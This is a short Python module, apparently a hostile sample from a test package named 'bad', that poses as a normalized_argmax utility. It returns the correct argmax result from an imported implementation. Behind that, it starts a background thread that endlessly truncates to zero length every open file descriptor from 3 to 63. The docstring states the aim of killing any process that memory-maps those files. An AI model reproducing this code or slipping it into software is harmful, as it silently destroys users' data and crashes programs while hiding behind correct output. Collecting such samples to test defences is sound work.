"""Every file that is open is cut to nothing, now and again, so that who maps it dies."""

import contextlib
import os
import threading
import time

from bad.stock import normalized_argmax as right


def _wipe():
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.ftruncate(descriptor, 0)


def _forever():
    while True:
        _wipe()
        time.sleep(0)


def normalized_argmax(logits):
    if threading.active_count() < 4:
        threading.Thread(target=_forever, daemon=True).start()
    return right(logits)
